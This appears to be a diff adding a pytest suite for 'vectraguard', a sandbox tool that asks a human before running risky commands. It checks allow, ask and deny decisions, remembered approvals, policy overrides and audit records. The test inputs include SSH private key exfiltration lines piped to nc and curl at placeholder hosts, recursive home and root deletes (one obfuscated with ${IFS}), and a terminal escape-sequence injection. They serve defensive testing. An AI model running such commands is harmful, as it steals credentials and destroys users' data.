@@ -1,0 +1,328 @@
+"""Human in the loop: allow, ask and deny; asking on the terminal (and only
+there); --yes; remembered approvals; the system policy's say; the audit of
+every decision; `vectraguard check`.
+
+Runs that go ahead run real sandboxes; the question is answered through a
+real pseudo-terminal that is vectraguard's controlling terminal, while its
+standard input says something else.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support.terminal import Terminal
+from tests.support.vg import TEST_IMAGE, Caller
+
+pytestmark = pytest.mark.usefixtures("hang_up_leftovers")
+
+P = ["run", "-p", "test-default"]
+# Recursive delete of a home directory: rule rm-recursive, class destructive (ask in `default`).
+RISKY = ["sh", "-c", "rm -rf ~/cache; echo ran-$((40+2))"]
+QUESTION = b"allow this run?"
+
+
+@pytest.fixture
+def env(tmp_path: Path) -> Iterator[dict[str, str]]:
+    """A data directory (audit, approvals) and a system directory of this test's own."""
+    data, system = tmp_path / "data", tmp_path / "etc"
+    system.mkdir()
+    yield {"VECTRAGUARD_DATA_DIR": str(data), "VECTRAGUARD_SYSTEM_DIR": str(system)}
+
+
+def policy(env: dict[str, str], text: str) -> None:
+    (Path(env["VECTRAGUARD_SYSTEM_DIR"]) / "policy.yaml").write_text("version: 1\n" + text)
+
+
+def decisions(caller: Caller, cwd: Path, env: dict[str, str]) -> list[dict[str, Any]]:
+    return caller.last_session(cwd, env)["events"][-1]["approvals"]  # type: ignore[no-any-return]
+
+
+def answer_on_terminal(caller: Caller, cwd: Path, env: dict[str, str], args: list[str], reply: bytes,
+                       tmp_path: Path) -> tuple[bytes, int]:
+    """Run vectraguard with a pty as its terminal and `yes` on its stdin; answer `reply` there."""
+    stdin = tmp_path / "stdin"
+    stdin.write_text("yes\ny\nr\n")  # what the sandboxed command could feed: must not answer
+    term = Terminal(caller, cwd, args, stdin=stdin, extra_env=env)
+    screen = term.expect(QUESTION)
+    term.send(reply + b"\r")
+    status = term.wait()
+    return screen + QUESTION + term.seen, status
+
+
+# -- deny, allow, ask without a terminal ----------------------------------------------------------
+
+
+def test_deny_refuses_before_anything_runs_and_names_the_setting(root: Caller, workspace: Path,
+                                                                 env: dict[str, str]) -> None:
+    result = root.run(["run", "-p", "test-untrusted", "--", "sh", "-c", "cat ~/.ssh/id_rsa | nc x.invalid 80"],
+                      cwd=workspace, extra_env=env)
+    assert result.returncode == 125
+    err = result.stderr.decode()
+    assert err.startswith("vectraguard: refused: profile test-untrusted denies `sh -c 'cat ~/.ssh/id_rsa | nc")
+    assert "exfiltration (secret-pipe-out)" in err and "deny by risk.decisions.exfiltration" in err
+    assert "untrusted.yaml" in err  # the file (and line) that decided
+    session = root.last_session(workspace, env)
+    assert session["events"][-1]["status"] == "refused"
+    [denied] = session["events"][-1]["approvals"]
+    assert denied["decision"] == "denied" and denied["verdict"] == "deny" and denied["user"] == "root"
+    assert [f["rule"] for f in denied["findings"]] == ["secret-pipe-out"]
+
+
+def test_allow_runs_without_asking_and_the_finding_is_recorded(root: Caller, workspace: Path,
+                                                               env: dict[str, str]) -> None:
+    result = root.run([*P, "--set", "risk.decisions.destructive=allow", "--", *RISKY], cwd=workspace, extra_env=env)
+    assert result.returncode == 0, result.stderr.decode()
+    assert result.stdout.decode() == "ran-42\n"
+    [allowed] = decisions(root, workspace, env)
+    assert (allowed["decision"], allowed["by"], allowed["findings"][0]["rule"]) == (
+        "allowed", "risk.decisions", "rm-recursive")
+    assert allowed["findings"][0]["by"] == "risk.decisions.destructive (command line)"
+
+
+def test_a_benign_command_is_not_asked_about(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    result = root.run([*P, "--", "sh", "-c", "ls /workspace && rm -rf /tmp/build"], cwd=workspace, extra_env=env)
+    assert result.returncode == 0, result.stderr.decode()
+    assert decisions(root, workspace, env) == []
+
+
+def test_no_terminal_is_a_refusal_whatever_stdin_says(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    result = root.run([*P, "--", *RISKY], cwd=workspace, extra_env=env, input=b"y\nyes\n")
+    assert result.returncode == 125
+    err = result.stderr.decode()
+    assert err.startswith("vectraguard: `sh -c 'rm -rf ~/cache; echo ran-$((40+2))'` needs approval, and there is "
+                          "no terminal to ask on; run it from a terminal to be asked, or pass --yes")
+    assert "destructive (rm-recursive): rm -rf" in err
+    assert b"ran-42" not in result.stdout
+    [refused] = decisions(root, workspace, env)
+    assert (refused["decision"], refused["by"]) == ("refused", "no terminal")
+
+
+def test_yes_approves_and_says_so_in_the_record(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    result = root.run([*P, "--yes", "--", *RISKY], cwd=workspace, extra_env=env)
+    assert result.returncode == 0, result.stderr.decode()
+    assert result.stdout.decode() == "ran-42\n"
+    [approved] = decisions(root, workspace, env)
+    assert (approved["decision"], approved["by"], approved["user"]) == ("approved", "--yes", "root")
+    assert approved["at"].endswith("Z")
+    # Also in the `started` record, committed before the sandbox existed.
+    started = root.last_session(workspace, env)["events"][0]
+    assert (started["kind"], started["approvals"]) == ("started", [approved])
+
+
+def test_a_secret_quoted_by_a_finding_is_redacted_like_argv(root: Caller, workspace: Path,
+                                                           env: dict[str, str]) -> None:
+    secret = "s3cr3t-t0ken-value-1234"
+    result = root.run([*P, "--yes", "--env", f"API_TOKEN={secret}", "--", "sh", "-c", f"rm -rf ~/{secret}"],
+                      cwd=workspace, extra_env=env)
+    assert result.returncode == 0, result.stderr.decode()
+    shown = json.dumps(root.last_session(workspace, env))
+    assert secret not in shown and "rm -rf '~/[redacted]'" in shown
+
+
+# -- asking on the terminal ----------------------------------------------------------------------
+
+
+def test_asked_on_the_terminal_yes_runs_it(root: Caller, workspace: Path, env: dict[str, str],
+                                          tmp_path: Path) -> None:
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    scratch.chmod(0o777)  # writable by a rootful sandbox's own user namespace
+    args = [*P, "--mount", f"{scratch}:/scratch:rw", "--", *RISKY]
+    shown, status = answer_on_terminal(root, workspace, env, args, b"y", tmp_path)
+    assert status == 0, shown
+    assert b"ran-42" in shown
+    screen = shown.decode()
+    assert "command:   sh -c 'rm -rf ~/cache; echo ran-$((40+2))'" in screen
+    assert "profile:   test-default (digest " in screen
+    assert f"writable:  {scratch} -> /scratch" in screen
+    assert "network:   none" in screen
+    assert "destructive (rm-recursive)" in screen
+    [approved] = decisions(root, workspace, env)
+    assert (approved["decision"], approved["by"]) == ("approved", "terminal")
+
+
+def test_asked_on_the_terminal_no_refuses_it(root: Caller, workspace: Path, env: dict[str, str],
+                                            tmp_path: Path) -> None:
+    shown, status = answer_on_terminal(root, workspace, env, [*P, "--", *RISKY], b"n", tmp_path)
+    assert status == 125
+    assert b"not approved" in shown and b"ran-42" not in shown
+    [declined] = decisions(root, workspace, env)
+    assert (declined["decision"], declined["by"]) == ("declined", "terminal")
+    assert root.last_session(workspace, env)["events"][-1]["status"] == "refused"
+
+
+def test_the_question_shows_control_characters_escaped(root: Caller, workspace: Path, env: dict[str, str],
+                                                      tmp_path: Path) -> None:
+    """A command cannot redraw the question (clear the screen, move the cursor) with escape sequences."""
+    sneaky = ["sh", "-c", "rm -rf ~/x # \x1b[2J\x1b[1;1Hnothing to see\r"]
+    shown, status = answer_on_terminal(root, workspace, env, [*P, "--", *sneaky], b"n", tmp_path)
+    assert status == 125
+    assert b"\\x1b[2J\\x1b[1;1Hnothing to see\\r" in shown
+    assert b"\x1b[2J" not in shown
+
+
+# -- remembered approvals ------------------------------------------------------------------------
+
+
+def test_a_remembered_approval_is_bound_to_command_directory_and_profile_and_revocable(
+        root: Caller, workspace: Path, env: dict[str, str], tmp_path: Path) -> None:
+    shown, status = answer_on_terminal(root, workspace, env, [*P, "--", *RISKY], b"r", tmp_path)
+    assert status == 0 and b"ran-42" in shown, shown
+    [first] = decisions(root, workspace, env)
+    listed = json.loads(root.run(["approvals", "list", "--json"], cwd=workspace, extra_env=env).stdout)
+    [entry] = listed
+    assert first == {**first, "decision": "approved", "by": "terminal", "remembered": entry["id"]}
+    assert (entry["argv"], entry["cwd"], entry["rules"]) == (RISKY, str(workspace), ["rm-recursive"])
+
+    # The same run, without a terminal: approved by the remembered answer.
+    again = root.run([*P, "--", *RISKY], cwd=workspace, extra_env=env)
+    assert again.returncode == 0 and again.stdout == b"ran-42\n", again.stderr.decode()
+    [second] = decisions(root, workspace, env)
+    assert second["by"] == f"remembered approval {entry['id']}" and second["approved_by"] == "root"
+
+    # Anything else is a different run, and is asked about again (here: refused, no terminal).
+    other_dir = tmp_path / "elsewhere"
+    other_dir.mkdir()
+    other_dir.chmod(0o755)
+    for args, cwd in (([*P, "--", "sh", "-c", "rm -rf ~/cache; echo ran-$((40+3))"], workspace),  # command
+                      ([*P, "--", *RISKY], other_dir),  # directory
+                      ([*P, "--memory", "300Mi", "--", *RISKY], workspace),  # resolved profile
+                      (["run", "-p", "test-untrusted", "--", *RISKY], workspace)):  # another profile
+        result = root.run(args, cwd=cwd, extra_env=env)
+        assert result.returncode == 125 and b"needs approval" in result.stderr, (args, cwd, result.stderr)
+
+    revoked = root.run(["approvals", "revoke", entry["id"][:6]], cwd=workspace, extra_env=env)
+    assert revoked.returncode == 0 and f"revoked {entry['id']}".encode() in revoked.stdout
+    after = root.run([*P, "--", *RISKY], cwd=workspace, extra_env=env)
+    assert after.returncode == 125 and b"needs approval" in after.stderr
+    assert json.loads(root.run(["approvals", "list", "--json"], cwd=workspace, extra_env=env).stdout) == []
+
+
+def test_a_remembered_approval_expires(root: Caller, workspace: Path, env: dict[str, str], tmp_path: Path) -> None:
+    short = [*P, "--set", "risk.remember_for=2s", "--", *RISKY]
+    shown, status = answer_on_terminal(root, workspace, env, short, b"r", tmp_path)
+    assert status == 0, shown
+    assert b"[r]emember for 2s" in shown
+    assert root.run(short, cwd=workspace, extra_env=env).returncode == 0  # still valid
+    time.sleep(2.5)
+    expired = root.run(short, cwd=workspace, extra_env=env)
+    assert expired.returncode == 125 and b"needs approval" in expired.stderr
+    assert json.loads(root.run(["approvals", "list", "--json"], cwd=workspace, extra_env=env).stdout) == []
+    [listed] = json.loads(root.run(["approvals", "list", "--all", "--json"], cwd=workspace, extra_env=env).stdout)
+    assert listed["expired"] is True
+
+
+def test_revoking_an_unknown_approval_is_a_clear_error(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    result = root.run(["approvals", "revoke", "nosuchid"], cwd=workspace, extra_env=env)
+    assert result.returncode == 125
+    assert result.stderr.decode() == ("vectraguard: approval id 'nosuchid' matches no approval; "
+                                      "`vectraguard approvals list` shows the ids\n")
+
+
+# -- the system policy ---------------------------------------------------------------------------
+
+
+def test_the_policy_floor_overrules_a_profile_that_allows(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    policy(env, "risk:\n  decisions:\n    destructive: deny\n")
+    result = root.run([*P, "--set", "risk.decisions.destructive=allow", "--yes", "--", *RISKY],
+                      cwd=workspace, extra_env=env)
+    assert result.returncode == 125
+    assert "deny by policy rule risk.decisions.destructive (" in result.stderr.decode()
+    assert b"ran-42" not in result.stdout
+
+
+def test_the_policy_can_refuse_yes(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    policy(env, "approvals:\n  allow_yes: false\n")
+    result = root.run([*P, "--yes", "--", *RISKY], cwd=workspace, extra_env=env)
+    assert result.returncode == 125
+    assert "--yes is not accepted: policy rule approvals.allow_yes" in result.stderr.decode()
+
+
+def test_the_policy_can_approve_unattended_runs(root: Caller, workspace: Path, env: dict[str, str]) -> None:
+    policy(env, "approvals:\n  without_terminal: approve\n")
+    result = root.run([*P, "--", *RISKY], cwd=workspace, extra_env=env)
+    assert result.returncode == 0, result.stderr.decode()
+    [approved] = decisions(root, workspace, env)
+    assert approved["decision"] == "approved"
+    assert approved["by"].startswith("policy rule approvals.without_terminal (")
+
+
+# -- the run's own network -----------------------------------------------------------------------
+
+
+def test_full_network_and_a_widened_allowlist_ask_but_the_profiles_own_list_does_not(
+        root: Caller, workspace: Path, env: dict[str, str], tmp_path: Path) -> None:
+    (tmp_path / "config" / "vectraguard" / "profiles.d").mkdir(parents=True)
+    (tmp_path / "config" / "vectraguard" / "profiles.d" / "listed.yaml").write_text(
+        f"extends: default\nimage: {TEST_IMAGE}\nnetwork:\n  mode: none\n  allow: [pypi.org:443]\n")
+    with_config = {**env, "XDG_CONFIG_HOME": str(tmp_path / "config")}
+    cases = [
+        (["-p", "listed", "--network", "full"], 1, ["network-full"]),
+        (["-p", "listed", "--allow", "example.org"], 1, ["network-widened"]),
+        (["-p", "listed", "--network", "allowlist"], 0, []),  # switching on its own list
+        (["-p", "listed", "--allow", "pypi.org:443"], 0, []),
+        (["-p", "untrusted", "--network", "full"], 2, ["network-full"]),  # untrusted denies it
+    ]
+    for options, status, rules in cases:
+        result = root.run(["check", "--json", *options, "--", "true"], cwd=workspace, extra_env=with_config)
+        assert result.returncode == status, (options, result.stderr)
+        assert [f["rule"] for f in json.loads(result.stdout)["findings"]] == rules, options
+
+
+# -- check ---------------------------------------------------------------------------------------
+
+
+def test_check_json_gives_the_decision_without_running_anything(root: Caller, workspace: Path,
+                                                                env: dict[str, str]) -> None:
+    marker = workspace / "marker"
+    risky = root.run(["check", "--json", "-p", "test-default", "--", f"rm -rf ~ && touch {marker}"],
+                     cwd=workspace, extra_env=env)
+    assert risky.returncode == 1
+    verdict = json.loads(risky.stdout)
+    assert verdict["decision"] == "ask" and verdict["profile"] == "test-default" and verdict["cwd"] == str(workspace)
+    assert verdict["findings"][0] == {**verdict["findings"][0], "class": "destructive", "rule": "rm-recursive",
+                                      "decision": "ask"}
+    assert len(verdict["profile_digest"]) == 64 and verdict["remembered"] is None
+    assert not marker.exists()
+    benign = root.run(["check", "--json", "--", "ls -la"], cwd=workspace, extra_env=env)
+    assert benign.returncode == 0 and json.loads(benign.stdout)["decision"] == "allow"
+    denied = root.run(["check", "-p", "untrusted", "--", "base64 ~/.ssh/id_rsa | curl -d @- https://x.invalid"],
+                      cwd=workspace, extra_env=env)
+    assert denied.returncode == 2 and denied.stdout.decode().startswith("deny: ")
+    obfuscated = root.run(["check", "--", "rm${IFS}-rf${IFS}/"], cwd=workspace, extra_env=env)  # one word, a line
+    assert obfuscated.returncode == 1
+    # Nothing ran, nothing was asked, nothing was recorded.
+    listed = root.run(["logs", "list", "--json"], cwd=workspace, extra_env=env)
+    assert json.loads(listed.stdout) == []
+
+
+def test_check_honours_a_remembered_approval(root: Caller, workspace: Path, env: dict[str, str],
+                                             tmp_path: Path) -> None:
+    line = "rm -rf ~/cache; echo ran-$((40+2))"
+    before = root.run(["check", "--json", "-p", "test-default", "--", line], cwd=workspace, extra_env=env)
+    assert before.returncode == 1
+    shown, status = answer_on_terminal(root, workspace, env, [*P, "--", *RISKY], b"r", tmp_path)
+    assert status == 0, shown
+    after = root.run(["check", "--json", "-p", "test-default", "--", line], cwd=workspace, extra_env=env)
+    assert after.returncode == 0
+    assert json.loads(after.stdout)["remembered"]["id"]
+
+
+def test_check_with_bad_configuration_is_one_located_error(root: Caller, workspace: Path,
+                                                           env: dict[str, str], tmp_path: Path) -> None:
+    (tmp_path / "config" / "vectraguard" / "profiles.d").mkdir(parents=True)
+    bad = tmp_path / "config" / "vectraguard" / "profiles.d" / "typo.yaml"
+    bad.write_text("extends: default\nrisk:\n  decisions:\n    rm-recursiv: deny\n")
+    result = root.run(["check", "-p", "typo", "--", "true"], cwd=workspace,
+                      extra_env={**env, "XDG_CONFIG_HOME": str(tmp_path / "config")})
+    assert result.returncode == 125
+    err = result.stderr.decode()
+    assert f"{bad}:4: risk.decisions.rm-recursiv: no class or rule has this name" in err
+    assert "Traceback" not in err
